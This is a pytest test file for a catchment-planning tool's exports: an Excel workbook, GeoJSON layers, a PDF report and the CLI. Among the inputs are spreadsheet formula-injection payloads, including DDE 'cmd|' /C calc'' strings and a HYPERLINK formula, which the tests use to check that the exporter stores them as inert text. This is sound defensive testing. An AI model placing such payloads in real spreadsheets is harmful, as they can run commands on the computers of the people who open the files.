"""Exports of a plan: the Excel workbook, the GeoJSON layers, the PDF report, and the CLI writing them.

The workbook's sheets must say what the contract files say (``polysystems.csv``,
``assignments.csv``, ``solution.json``) on the demo and on Redbridge; data strings that a
spreadsheet would read as formulas stay text; the GeoJSON follows RFC 7946 (WGS 84, no
``crs`` member) with one feature per unit and per polysystem; the PDF holds the report's
text and needs no network.
"""

from __future__ import annotations

import dataclasses
import io
import json
import re
import socket
import sys
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from pypdf import PdfReader

import optimise
from catchment.build import BuiltProblem, build_demo
from catchment.exports import (
    EXPORT_FILES,
    FORMULA_PREFIXES,
    SHEETS,
    geojson_layers,
    workbook_bytes,
    write_exports,
)
from catchment.metrics import assignments_frame
from catchment.plan import Plan
from catchment.problem import ESTIMATE_LABEL
from catchment.validate import validate_plan
from maps import pdf as maps_pdf
from solvers import solve

#: Strings a spreadsheet would run as formulas (or that start with a control character).
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _sheet(book: openpyxl.Workbook, name: str) -> pd.DataFrame:
    rows = list(book[name].iter_rows(values_only=True))
    return pd.DataFrame(rows[1:], columns=rows[0])


def _facts(book: openpyxl.Workbook) -> dict:
    return {k: v for k, v in book["Facts"].iter_rows(min_row=2, values_only=True)}


def _check_workbook(folder: Path) -> openpyxl.Workbook:
    """The workbook of an output folder says what its CSV and JSON files say."""
    book = openpyxl.load_workbook(folder / "plan.xlsx")
    assert book.sheetnames == list(SHEETS)
    solution = json.loads((folder / "solution.json").read_text())
    csv = pd.read_csv(folder / "polysystems.csv")
    sheet = _sheet(book, "Polysystems")
    estimate = ESTIMATE_LABEL if solution["travel_source"] == "estimate" else ""  # labelled as the report labels it
    assert list(sheet["Polysystem"]) == list(csv["polysystem_id"])
    assert list(sheet["Hub site id"]) == list(csv["hub_site_id"].astype(str))
    assert list(sheet["Option"]) == list(csv["hub_option"])
    np.testing.assert_allclose(sheet["Population"].astype(float), csv["population"])
    np.testing.assert_allclose(sheet["Units"].astype(float), csv["n_units"])
    np.testing.assert_allclose(sheet[f"Mean travel (min){estimate}"].astype(float), csv["mean_travel_min"])
    np.testing.assert_allclose(sheet[f"Longest travel (min){estimate}"].astype(float), csv["max_travel_min"])
    capital = [c for c in sheet.columns if str(c).startswith("Capital cost (GBP)")]
    assert len(capital) == 1
    np.testing.assert_allclose(sheet[capital[0]].astype(float), csv["capital_cost"])
    if solution["capital_costs_source"] == "placeholder":  # labelled as the report labels it
        assert capital[0] == "Capital cost (GBP) (placeholder)"
        assert set(sheet["Capital cost source"]) == {"placeholder"}

    units = pd.read_csv(folder / "assignments.csv", dtype={"unit_id": str, "hub_site_id": str})
    sheet = _sheet(book, "Assignments")
    assert list(sheet["Unit id"].astype(str)) == list(units["unit_id"])
    assert list(sheet["Polysystem"]) == list(units["polysystem_id"])
    assert list(sheet["Hub site id"].astype(str)) == list(units["hub_site_id"])
    np.testing.assert_allclose(sheet["Population"].astype(float), units["population"])
    np.testing.assert_allclose(sheet[f"Travel to hub (min){estimate}"].astype(float), units["travel_min"])

    facts = _facts(book)
    assert facts["Status"] == solution["status_label"]
    assert facts["Proven optimal"] == ("yes" if solution["proven_optimal"] else "no")
    assert facts[f"Objective{estimate}"] == pytest.approx(solution["objective"])
    assert facts[f"Best bound{estimate}"] == pytest.approx(solution["bound"])
    assert facts["Gap"] == pytest.approx(solution["gap"])
    assert facts["Engine version"] == solution["engine"]["version"]
    assert facts["Engine git commit"] == (solution["engine"]["git_commit"] or "n/a")
    assert facts["Scenario SHA-256"] == (solution["scenario_sha256"] or "n/a")
    for path, digest in solution["input_files"].items():
        assert facts[f"Input file {path}"] == f"SHA-256 {digest}"
    if solution["violations"]:
        assert len(_sheet(book, "Rules broken")) == len(solution["violations"])
    else:
        assert book["Rules broken"]["A1"].value.startswith("none")
    return book


# ---------------------------------------------------------------------------- the demo
def test_demo_folder_holds_the_exports(earlier):
    for name in EXPORT_FILES:
        assert (earlier / name).stat().st_size > 0, name
    book = _check_workbook(earlier)
    assert "No comparison configuration" in book["Moves"]["A1"].value  # the synthetic demo has no PCNs


def test_geojson_layers_follow_rfc_7946(earlier):
    units = json.loads((earlier / "units.geojson").read_text())
    polysystems = json.loads((earlier / "polysystems.geojson").read_text())
    assignments = pd.read_csv(earlier / "assignments.csv")
    table = pd.read_csv(earlier / "polysystems.csv")
    for layer in (units, polysystems):
        assert layer["type"] == "FeatureCollection" and "crs" not in layer
        for feature in layer["features"]:
            coords = np.array(list(_points(feature["geometry"]["coordinates"])))
            # the demo district lies near 0 degrees east, 52 degrees north (WGS 84 longitude, latitude)
            assert ((coords[:, 0] > -8) & (coords[:, 0] < 3) & (coords[:, 1] > 49) & (coords[:, 1] < 57)).all()
    assert len(units["features"]) == len(assignments)
    assert {f["geometry"]["type"] for f in units["features"]} == {"Point"}
    assert [f["properties"]["unit_id"] for f in units["features"]] == list(assignments["unit_id"])
    assert [f["properties"]["polysystem_id"] for f in units["features"]] == list(assignments["polysystem_id"])
    assert [f["properties"]["polysystem_id"] for f in polysystems["features"]] == list(table["polysystem_id"])
    assert {f["geometry"]["type"] for f in polysystems["features"]} <= {"Polygon", "MultiPolygon"}
    assert {f["properties"]["geometry_kind"] for f in polysystems["features"]} == {"area"}
    populations = [f["properties"]["population"] for f in polysystems["features"]]
    np.testing.assert_allclose(populations, table["population"])


def _points(coordinates):
    if isinstance(coordinates[0], (int, float)):
        yield coordinates[:2]
    else:
        for part in coordinates:
            yield from _points(part)


def test_lsoa_units_are_polygons_and_polysystems_without_areas_are_hub_points():
    built = build_demo(unit_type="lsoa")
    plan = solve(built.problem, time_limit=60)
    layers = geojson_layers(built, plan)
    assert len(layers["units"]["features"]) == built.problem.n_units
    assert {f["geometry"]["type"] for f in layers["units"]["features"]} <= {"Polygon", "MultiPolygon"}
    assert len(layers["polysystems"]["features"]) == len(plan.hub_options)
    # practices with no areas to draw: each polysystem is its hub's point
    bare = dataclasses.replace(build_demo(), areas=None, registrations=None)
    plan = solve(bare.problem, time_limit=60)
    features = geojson_layers(bare, plan)["polysystems"]["features"]
    assert {f["geometry"]["type"] for f in features} == {"Point"}
    assert {f["properties"]["geometry_kind"] for f in features} == {"hub point"}


# ---------------------------------------------------------------------------- formula injection
@pytest.fixture(scope="module")
def hostile() -> tuple[BuiltProblem, Plan]:
    """The demo with unit and site names, one unit id, notes and the travel label that look like formulas."""
    built = build_demo()
    plan = solve(built.problem, time_limit=60)
    problem = built.problem
    old = problem.unit_ids[0]
    new = f"{FORMULAS[0]}"
    unit_ids = tuple(new if u == old else u for u in problem.unit_ids)
    names = tuple(f"{FORMULAS[k % len(FORMULAS)]} {n}" for k, n in enumerate(problem.unit_names or unit_ids))
    sites = tuple(FORMULAS[k % len(FORMULAS)] for k in range(problem.n_sites))
    units = built.units.assign(unit_id=list(unit_ids), name=list(names))
    hostile_problem = dataclasses.replace(
        problem,
        unit_ids=unit_ids,
        unit_names=names,
        site_names=sites,
        travel_label=FORMULAS[2],
        units=units,
    )
    hostile_built = dataclasses.replace(
        built, problem=hostile_problem, units=units, input_files={FORMULAS[3]: FORMULAS[1]}
    )
    assignment = {new if u == old else u: s for u, s in plan.assignment.items()}
    hostile_plan = dataclasses.replace(plan, assignment=assignment, notes=FORMULAS)
    return hostile_built, hostile_plan


def test_formulas_in_the_data_are_written_as_text(hostile):
    built, plan = hostile
    data = workbook_bytes(built, plan, reference=plan)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(r"<f[ >]", xml) for xml in sheets)  # not one formula cell
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = {}
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts[cell.value] = cell
    written = set(texts)
    for formula in FORMULAS:
        # every payload is present, as written, in a text cell marked with Excel's quote prefix
        # (a carriage return reads back as a line feed: XML normalises line ends)
        hits = [t for t in written if t.startswith(formula.replace("\r", "\n"))]
        assert hits, formula
        assert all(texts[t].data_type == "s" and texts[t].quotePrefix for t in hits)
    assert all(cell.quotePrefix for text, cell in texts.items() if text.startswith(FORMULA_PREFIXES))
    assert _sheet(book, "Assignments")["Unit id"].iloc[0] == FORMULAS[0]
    assert _facts(book)["Travel times"] == FORMULAS[2]


# ---------------------------------------------------------------------------- Redbridge
@pytest.fixture(scope="module")
def redbridge(tmp_path_factory, real_data) -> Path:
    out = tmp_path_factory.mktemp("redbridge") / "out"
    code = optimise.main(["run", "scenarios/redbridge.toml", "--out", str(out), "--data-dir", str(real_data), "-q"])
    assert code == optimise.EXIT_OK
    return out


def test_redbridge_workbook_and_moves_against_today_s_pcns(redbridge, real_data, redbridge_pcns):
    book = _check_workbook(redbridge)
    facts = _facts(book)
    moves = _sheet(book, "Moves")
    assert facts["Moves"].endswith("compared with today's PCNs")
    assert facts["Moves"].startswith(f"{len(moves):,} unit(s)")
    assert set(moves["From (as configured)"].dropna()) <= {*_pcn_codes(real_data)}
    # a unit listed has a different polysystem than its PCN's counterpart; its travel is the plan's
    units = pd.read_csv(redbridge / "assignments.csv").set_index("unit_id")
    np.testing.assert_allclose(
        moves[f"Travel after (min){ESTIMATE_LABEL}"].astype(float), units.loc[moves["Unit id"], "travel_min"].to_numpy()
    )
    assert (moves["To polysystem"] != moves["From continues as"]).all()
    assert _facts(book)["Scenario SHA-256"] == json.loads((redbridge / "solution.json").read_text())["scenario_sha256"]
    layers = json.loads((redbridge / "polysystems.geojson").read_text())
    assert len(layers["features"]) == len(pd.read_csv(redbridge / "polysystems.csv"))


def _pcn_codes(real_data: Path) -> set[str]:
    from geodata.pcn import PCN_MAPPING_FILE, read_pcn_mapping

    mapping = read_pcn_mapping(real_data / PCN_MAPPING_FILE)
    return set(mapping["pcn_code"])


def test_rules_broken_lists_the_validator_s_findings(redbridge, real_data):
    from catchment.build import build_from_scenario
    from catchment.current import current_pcn_plan
    from catchment.scenario import read_scenario

    scenario = read_scenario(Path("scenarios/redbridge.toml"))
    built = build_from_scenario(scenario, data_dir=real_data)
    pcns, _ = current_pcn_plan(scenario, built.problem, data_dir=real_data)
    found = validate_plan(built.problem, pcns)
    assert found  # two of Redbridge's PCNs are below the floor
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(built, pcns)))
    sheet = _sheet(book, "Rules broken")
    assert list(sheet["Rule"]) == [v.rule for v in found]
    assert list(sheet["What is wrong"]) == [v.message for v in found]
    assert _facts(book)["Rules broken"] == len(found)
    assert "No comparison configuration" in book["Moves"]["A1"].value


# ---------------------------------------------------------------------------- the command line
def test_no_exports_writes_none_of_them(tmp_path):
    out = tmp_path / "out"
    assert optimise.main(["demo", "--out", str(out), "--no-exports", "-q"]) == optimise.EXIT_OK
    assert (out / "solution.json").is_file()
    assert not [name for name in EXPORT_FILES if (out / name).exists()]
    assert not (out / "report.pdf").exists()


def test_a_failed_export_writes_nothing(tmp_path, monkeypatch):
    import catchment.exports

    def broken(*args, **kwargs):
        raise RuntimeError("export failed")

    monkeypatch.setattr(catchment.exports, "write_exports", broken)
    out = tmp_path / "results" / "out"
    with pytest.raises(RuntimeError, match="export failed"):
        optimise.main(["demo", "--out", str(out), "-q"])
    assert not (tmp_path / "results").exists()  # no folder, no staging folder


def test_pdf_report_holds_the_plan_and_needs_no_network(tmp_path, monkeypatch):
    def no_network(*args, **kwargs):
        raise OSError("no network in this test")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    out = tmp_path / "out"
    assert optimise.main(["demo", "--out", str(out), "--pdf", "-q"]) == optimise.EXIT_OK
    reader = PdfReader(out / "report.pdf")
    text = " ".join(page.extract_text() for page in reader.pages)
    text = re.sub(r"\s+", " ", text)
    table = pd.read_csv(out / "polysystems.csv")
    for row in table.itertuples():
        assert row.polysystem_id in text and row.hub_site_name in text
    solution = json.loads((out / "solution.json").read_text())
    assert solution["status_label"] in text
    assert "Population of each polysystem against the floor" in text  # a chart, drawn from inline SVG
    assert (out / "plan.xlsx").is_file()  # exports are written beside it


def test_pdf_without_weasyprint_is_a_clear_error(tmp_path, monkeypatch, capsys):
    monkeypatch.setitem(sys.modules, "weasyprint", None)  # import weasyprint raises ImportError
    maps_pdf._weasyprint.cache_clear()
    try:
        out = tmp_path / "out"
        assert optimise.main(["demo", "--out", str(out), "--pdf", "-q"]) == optimise.EXIT_INPUT
    finally:
        maps_pdf._weasyprint.cache_clear()
    err = capsys.readouterr().err
    assert "WeasyPrint" in err and "libpango" in err and "Traceback" not in err
    assert not out.exists()


def test_write_exports_reads_the_folder_s_solution(earlier, tmp_path):
    built = build_demo()
    plan = solve(built.problem, time_limit=60)
    record = json.loads((earlier / "solution.json").read_text())
    record["status_label"] = "as the folder says"
    (tmp_path / "solution.json").write_text(json.dumps(record))
    paths = write_exports(tmp_path, built, plan)
    assert set(paths) == set(EXPORT_FILES)
    assert _facts(openpyxl.load_workbook(paths["plan.xlsx"]))["Status"] == "as the folder says"
    assert len(assignments_frame(built.problem, plan)) == len(
        json.loads(paths["units.geojson"].read_text())["features"]
    )
